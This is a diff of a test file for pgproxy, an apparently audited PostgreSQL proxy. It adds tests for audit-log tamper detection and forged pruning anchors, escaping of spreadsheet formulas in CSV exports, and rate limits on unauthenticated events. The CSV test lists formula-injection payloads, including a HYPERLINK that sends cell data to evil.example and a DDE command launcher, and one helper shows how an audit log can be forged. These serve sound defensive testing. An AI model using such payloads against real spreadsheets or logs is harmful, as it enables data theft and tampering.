@@ -23,7 +23,7 @@ import asyncpg
 import psycopg
 import pytest
 
-from pgproxy.audit import CSV_COLUMNS, AuditLog, chain_hash, verify
+from pgproxy.audit import CSV_COLUMNS, AuditChainBroken, AuditLog, chain_hash, iso, verify
 from pgproxy.config import AuditConfig, load_config
 from pgproxy.pgcluster import PostgresCluster, free_port
 from pgproxy.store.sqlite import SqliteStore
@@ -288,7 +288,10 @@ async def test_tampering_is_detected_and_named(tmp_path: Path) -> None:
                        "UPDATE audit_events SET seq = 15 WHERE seq = 16",
                        "UPDATE audit_events SET seq = 16 WHERE seq = -1"],
                       "the event stored as event 15 says it is event 16"),
-        "first deleted": (["DELETE FROM audit_events WHERE seq = 1"], "events 1-1 are missing"),
+        "first deleted": (["DELETE FROM audit_events WHERE seq = 1"],
+                          "event 1 is missing: the log starts at event 2 and no audit.pruned event accounts"),
+        "start deleted": (["DELETE FROM audit_events WHERE seq <= 5"],
+                          "events 1-5 are missing: the log starts at event 6 and no audit.pruned event accounts"),
         "tail cut": (["DELETE FROM audit_events WHERE seq > 25"], "a head was signed for event 32"),
         "head forged": (["UPDATE audit_heads SET signature = signature || 'x'"], "invalid signature"),
         "time edited": (["UPDATE audit_events SET time = time + 60 WHERE seq = 5"], "event 5 (statement at"),
@@ -321,21 +324,158 @@ async def test_a_rewritten_chain_is_caught_by_the_signed_heads(tmp_path: Path) -
     assert "comes after event 11" in found.problem  # the last head that still matched
 
 
-async def test_pruning_keeps_the_chain_verifiable(tmp_path: Path) -> None:
-    path = tmp_path / "audit.sqlite3"
+async def _pruned_log(path: Path) -> None:
+    """A log whose retention pruned all but its newest events (33, the second proxy.started, on)."""
     await _written_log(path)
     audit = AuditLog(_config(path, retention_days=1))
     await audit.start({"mode": "test"})
     pruned = await audit.prune(now=time.time() + 2 * 86400)  # everything is now older than a day
     await audit.close()
-    assert pruned == 32  # all but the newest event (the second proxy.started)
-    found = await verify(SqliteStore(path), SIGNING_KEY)
+    assert pruned == 32
+
+
+async def _verified(path: Path, *, retention: bool = True) -> str | None:
+    store = SqliteStore(path)
+    try:
+        return (await verify(store, SIGNING_KEY, retention=retention)).problem
+    finally:
+        await store.close()
+
+
+async def test_pruning_keeps_the_chain_verifiable(tmp_path: Path) -> None:
+    path = tmp_path / "audit.sqlite3"
+    await _pruned_log(path)
+    store = SqliteStore(path)
+    found = await verify(store, SIGNING_KEY, retention=True)
+    await store.close()
     assert found.problem is None and found.first_seq == 33, found.describe()
+    assert "events 1-32 pruned by retention" in found.describe()
     anchor = of(stored_events(path), "audit.pruned")[0]
     assert anchor["pruned_through_seq"] == 32 and anchor["pruned_events"] == 32
+    # Retention goes on: a second prune leaves a chain that verifies, and a restart continues it.
+    audit = AuditLog(_config(path, retention_days=1))
+    await audit.start({"mode": "test"})
+    audit.record("statement", {"n": "after"})
+    assert await audit.prune(now=time.time() + 4 * 86400) > 0
+    await audit.close()
+    assert await _verified(path) is None
     _edit(path, "DELETE FROM audit_events WHERE type = 'audit.pruned'")
-    found = await verify(SqliteStore(path), SIGNING_KEY)
-    assert found.problem is not None and "no audit.pruned event accounts for them" in found.problem
+    problem = await _verified(path)
+    assert problem is not None and "no audit.pruned event accounts for them" in problem
+
+
+def _forge_pruning(path: Path, keep_from: int, *, keep_heads: bool = False) -> None:
+    """What someone with write access to the file but not the key can do: delete the events
+    before `keep_from` (and, unless `keep_heads`, their signed heads) and append an
+    audit.pruned event saying retention removed them, chained by the public rule."""
+    with sqlite3.connect(path) as db:
+        last_hash = db.execute("SELECT hash FROM audit_events WHERE seq = ?", (keep_from - 1,)).fetchone()[0]
+        newest, previous = db.execute("SELECT seq, hash FROM audit_events ORDER BY seq DESC LIMIT 1").fetchone()
+        db.execute("DELETE FROM audit_events WHERE seq < ?", (keep_from,))
+        if not keep_heads:
+            db.execute("DELETE FROM audit_heads WHERE seq < ?", (keep_from,))
+        now = time.time()
+        body = (f'{{"seq":{newest + 1},"time":"{iso(now)}","type":"audit.pruned","pruned_through_seq":'
+                f'{keep_from - 1},"pruned_last_hash":"{last_hash}","pruned_events":{keep_from - 1},'
+                f'"before":"{iso(now - 86400)}"}}')
+        db.execute("INSERT INTO audit_events VALUES (?, ?, ?, ?, ?)",
+                   (newest + 1, now, "audit.pruned", body, chain_hash(previous, body)))
+
+
+async def test_a_forged_pruning_anchor_does_not_verify(tmp_path: Path) -> None:
+    """Only the key makes an audit.pruned event count: deleting events and appending an anchor
+    that says retention pruned them fails, whatever else the forger keeps or deletes."""
+    original = tmp_path / "audit.sqlite3"
+    await _written_log(original)  # events 1-32; heads at 11, 21, 31 and 32
+    cases = {
+        "all but the newest deleted": (dict(keep_from=32), "events 1-31 are missing: the log starts at event 32; "
+                                       "event 33 (audit.pruned at"),
+        "all deleted": (dict(keep_from=33), "events 1-32 are missing: the log starts at event 33; event 33 "
+                        "(audit.pruned at"),
+        "heads kept, events deleted": (dict(keep_from=25, keep_heads=True),
+                                       "events 1-24 are missing: the log starts at event 25, yet the head signed "
+                                       "for event 21 is still there: they were deleted, not pruned"),
+    }
+    for name, (forgery, expected) in cases.items():
+        copy = tmp_path / f"{name}.sqlite3"
+        shutil.copy(original, copy)
+        _forge_pruning(copy, **forgery)  # type: ignore[arg-type]
+        problem = await _verified(copy)
+        assert problem is not None and expected in problem, (name, problem)
+        if "yet the head" not in expected:
+            assert "is not covered by a signed head" in problem and "not written by pgproxy" in problem, problem
+    copy = tmp_path / "no retention.sqlite3"
+    shutil.copy(original, copy)
+    _forge_pruning(copy, keep_from=32)
+    problem = await _verified(copy, retention=False)
+    assert problem is not None and "retention is not configured (audit.retention_days)" in problem, problem
+
+
+async def test_a_real_pruning_anchor_needs_retention_configured(tmp_path: Path) -> None:
+    path = tmp_path / "audit.sqlite3"
+    await _pruned_log(path)
+    assert await _verified(path) is None
+    problem = await _verified(path, retention=False)
+    assert problem is not None and problem.startswith(
+        "events 1-32 are missing: the log starts at event 33; event 34 (audit.pruned at"), problem
+    assert "says retention pruned them, but retention is not configured" in problem
+
+
+async def test_events_a_crashed_run_never_signed_are_named(tmp_path: Path) -> None:
+    """Events written after the last signed head by a run that then died rest on the chain
+    alone (someone with the file could have appended them): verify still passes, and says which."""
+    path = tmp_path / "audit.sqlite3"
+    await _written_log(path)  # events 1-32, signed through 32
+    crashed = AuditLog(_config(path))
+    await crashed.start({"mode": "test"})  # event 33
+    for n in range(3):
+        crashed.record("statement", {"n": n})  # events 34-36
+    await crashed.flush()
+    await crashed.store.close()  # no proxy.stopped, no signature: as after kill -9
+    restarted = AuditLog(_config(path))
+    await restarted.start({"mode": "test"})
+    await restarted.close()
+    started = of(stored_events(path), "proxy.started")[-1]
+    assert (started["previous_stop"], started["previous_seq"], started["previous_signed_seq"]) == ("unclean", 36, 32)
+    store = SqliteStore(path)
+    found = await verify(store, SIGNING_KEY)
+    await store.close()
+    assert found.problem is None, found.problem
+    assert "; events 33-36 were never signed by the run that wrote them" in found.describe(), found.describe()
+
+
+async def test_a_restart_does_not_sign_over_a_forged_chain(tmp_path: Path, pg: PostgresCluster) -> None:
+    """The proxy refuses to start on a log it cannot vouch for, and signs nothing: the forgery
+    stays visible to `verify`, and `pgproxy run` says why it did not start."""
+    path = tmp_path / "approvals.sqlite3"
+    await _written_log(path)
+    pristine = tmp_path / "pristine.sqlite3"
+    shutil.copy(path, pristine)
+    _forge_pruning(path, keep_from=32)
+    audit = AuditLog(_config(path, retention_days=1))
+    with pytest.raises(AuditChainBroken, match=r"event 33 \(audit.pruned at .* is not covered by a signed head"):
+        await audit.start({"mode": "test"})
+    await audit.store.close()
+    assert [e["seq"] for e in stored_events(path)] == [32, 33]  # nothing recorded, nothing signed
+    config = audited_config(pg, tmp_path, audit=AUDIT + "  retention_days: 30\n")
+    result = subprocess.run([sys.executable, "-m", "pgproxy.cli", "run", "--config", str(config)],
+                            capture_output=True, text=True, timeout=60)
+    assert result.returncode == 1
+    assert f"pgproxy: audit log {path} does not follow its last signed head, so pgproxy will not continue it" \
+        in result.stderr, result.stderr
+    assert "move it aside to start a new log" in result.stderr
+    failed = audit_cli("verify", "--config", str(config))
+    assert failed.returncode == 1 and "is not covered by a signed head" in failed.stdout, failed.stdout
+    for tampered, expected in (("DELETE FROM audit_events WHERE seq >= 32", "event 32, whose head was signed at"),
+                               ("DELETE FROM audit_heads", "event 1 is missing")):  # then the log must start at 1
+        copy = tmp_path / "copy.sqlite3"
+        shutil.copy(pristine, copy)
+        _edit(copy, "DELETE FROM audit_events WHERE seq = 1", tampered)
+        audit = AuditLog(_config(copy))
+        with pytest.raises(AuditChainBroken, match=expected):
+            await audit.start({"mode": "test"})
+        await audit.store.close()
+        copy.unlink()
 
 
 def test_restart_continues_the_chain(pg: PostgresCluster, tmp_path: Path) -> None:
@@ -475,6 +615,34 @@ def test_export_round_trip(audited: ProxyThread, tmp_path: Path) -> None:
     assert bad.returncode == 2 and "neither an ISO 8601 time" in bad.stderr
 
 
+async def test_csv_export_is_inert_in_a_spreadsheet(pg: PostgresCluster, tmp_path: Path) -> None:
+    """Cells a spreadsheet would run as a formula (OWASP's prefixes and their full-width forms)
+    are exported with a leading apostrophe; other cells are exported as they are."""
+    config = audited_config(pg, tmp_path)
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+                "@SUM(1,1)", "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]
+    audit = AuditLog(_config(tmp_path / "approvals.sqlite3"))
+    await audit.start({"mode": "test"})
+    for value in formulas:
+        audit.record("statement", {"application_name": value, "statement": value, "tables": [value, "t"],
+                                   "user": value})
+    audit.record("statement", {"application_name": "plain-app", "statement": "SELECT a - b", "wait_seconds": 1.5})
+    await audit.close()
+    out = tmp_path / "audit.csv"
+    result = audit_cli("export", "--config", str(config), "--format", "csv", "--output", str(out))
+    assert result.returncode == 0, result.stderr
+    with out.open(newline="", encoding="utf-8") as f:
+        rows = [r for r in csv.DictReader(f) if r["type"] == "statement"]
+    assert [r["application_name"] for r in rows] == [f"'{v}" for v in formulas] + ["plain-app"]
+    assert [r["statement"] for r in rows] == [f"'{v}" for v in formulas] + ["SELECT a - b"]
+    assert [r["tables"] for r in rows[:-1]] == [f"'{v};t" for v in formulas]
+    assert json.loads(rows[0]["details"]) == {"user": formulas[0]}  # JSON: starts with '{'
+    assert rows[-1]["wait_seconds"] == "1.5"
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+                       for cell in row.values()), row
+
+
 def test_tail_follows_new_events(audited: ProxyThread) -> None:
     config = audited.server.config
     assert config.source is not None
@@ -541,6 +709,93 @@ def test_bytes_that_are_not_utf8_cannot_stop_the_audit_log(pg: PostgresCluster, 
         assert of(found, "statement", application_name="app\\xfe\\xff")
         assert len(of(found, "statement", application_name="after-the-bytes")) == 1000
     assert audit_cli("verify", "--config", str(config.source)).returncode == 0
+
+
+def test_a_flood_of_unauthenticated_attempts_is_bounded_and_counted(pg: PostgresCluster, tmp_path: Path) -> None:
+    """Refused logins, malformed startups and forged reviewer tokens, through the real listener
+    and web app: the first few are recorded one by one with what the client chose cut short
+    (length and SHA-256 kept); the rest are one aggregated event per kind with exact counts."""
+    from pgproxy.wire import messages as m
+    from tests.harness import RawClient
+
+    per_interval = 4
+    flood = AUDIT + f"  unauthenticated_events_per_interval: {per_interval}\n  unauthenticated_interval_seconds: 3600\n"
+    config = load_config(audited_config(pg, tmp_path, audit=flood))
+    user, database, application = "u" * 4000, "d" * 3000, "a" * 2000
+    logins, garbage, decisions = 30, 10, 12
+    with running_proxy(config) as proxy:
+        with RawClient(proxy.port) as client:  # the first: oversized names, recorded one by one
+            client.send(m.StartupMessage({"user": user, "database": database,
+                                          "application_name": application}).encode())
+            client.read_message()
+            client.send(m.PasswordMessage("not-a-token").encode())
+            client.until_ready()
+        for _ in range(logins - 1):
+            with RawClient(proxy.port) as client:
+                client.send(m.StartupMessage({"user": "agent", "database": "app"}).encode())
+                client.read_message()
+                client.send(m.PasswordMessage("not-a-token").encode())
+                client.until_ready()
+        for _ in range(garbage):
+            with RawClient(proxy.port) as client:
+                client.send(b"\x00\x00\x00\x10garbage-startup!")
+                client.until_ready()
+        approval_id = "x" * 4000
+        forged = reviewer_token(secret="forged-reviewer-secret-0123456789abc")
+        body = {"decision": "approve", "reason": "", "statement_sha256": "0" * 64}
+        for _ in range(decisions):
+            assert api(proxy, "POST", f"/api/approvals/{approval_id}/decision", body, forged)[0] == 401
+    stored = stored_events(tmp_path / "approvals.sqlite3")
+    one_by_one = of(stored, "connection.refused") + of(stored, "approval.decision_refused")
+    assert len(one_by_one) == per_interval
+    first = of(stored, "connection.refused")[0]
+    for field, value in (("user", user), ("database", database), ("application_name", application)):
+        assert first[field] == (f"{value[:64]}…[{len(value)} chars, "
+                                f"sha256:{hashlib.sha256(value.encode()).hexdigest()}]"), field
+    assert len(first["reason"]) < 400
+    (refused,) = of(stored, "connection.refused.aggregated")
+    assert refused["events"] + per_interval == logins + garbage and refused["other_events"] == 0
+    assert {(c["client_address"], c["sqlstate"], c["stage"]): c["events"] for c in refused["counts"]} == {
+        ("127.0.0.1", "28P01", "authenticating"): logins - per_interval,
+        ("127.0.0.1", "0A000", "startup"): garbage}  # "unsupported frontend protocol"
+    (decided,) = of(stored, "approval.decision_refused.aggregated")
+    assert decided["events"] == decisions
+    assert decided["counts"] == [{"client_address": "127.0.0.1", "via": "api", "http_status": 401,
+                                  "events": decisions}]
+    assert max(len(json.dumps(e)) for e in stored) < 2000  # every event is small, whatever was sent
+    assert audit_cli("verify", "--config", str(config.source)).returncode == 0
+
+
+def test_unauthenticated_events_are_aggregated_per_interval() -> None:
+    """The rate bound over time: each interval records its first events one by one and counts
+    the rest; its aggregate comes due when it ends, and the next interval starts afresh."""
+    from pgproxy.unauthenticated import MAX_KEYS, Unauthenticated
+
+    bound = Unauthenticated(per_interval=2, interval_seconds=60)
+    key = {"client_address": "192.0.2.1", "sqlstate": "28P01", "stage": "authenticating"}
+    assert [bound.admit("connection.refused", key, 1000 + n) for n in range(5)] == [True, True, False, False, False]
+    assert bound.due(1059) == []  # the interval is not over
+    (due,) = bound.due(1060)
+    assert due[0] == "connection.refused.aggregated"
+    assert (due[1]["events"], due[1]["recorded_one_by_one"], due[1]["counts"]) == (3, 2, [{**key, "events": 3}])
+    assert bound.admit("connection.refused", key, 1061) and bound.admit("connection.refused", key, 1062)
+    for n in range(MAX_KEYS + 50):  # many peers: the event lists MAX_KEYS, the rest are summed
+        assert not bound.admit("connection.refused", {**key, "client_address": f"10.0.{n // 256}.{n % 256}"}, 1070)
+    (due,) = bound.due(2000, final=True)
+    assert due[1]["events"] == MAX_KEYS + 50 and due[1]["other_events"] == 50 and len(due[1]["counts"]) == MAX_KEYS
+    assert bound.due(5000, final=True) == []
+
+
+def test_unauthenticated_limits_are_validated(pg: PostgresCluster, tmp_path: Path) -> None:
+    from pgproxy.config import ConfigError
+
+    for line, expected in (("unauthenticated_events_per_interval: -1", "expected an integer of at least 0, got -1"),
+                           ("unauthenticated_interval_seconds: 0", "expected a number greater than 0, got 0")):
+        path = audited_config(pg, tmp_path, audit=AUDIT + f"  {line}\n")
+        number = path.read_text().splitlines().index(f"  {line}") + 1
+        with pytest.raises(ConfigError) as raised:
+            load_config(path)
+        assert str(raised.value) == f"{path}:{number}: audit.{line.split(':')[0]}: {expected}"
 
 
 async def test_closing_the_store_waits_for_the_operation_in_flight(tmp_path: Path) -> None:
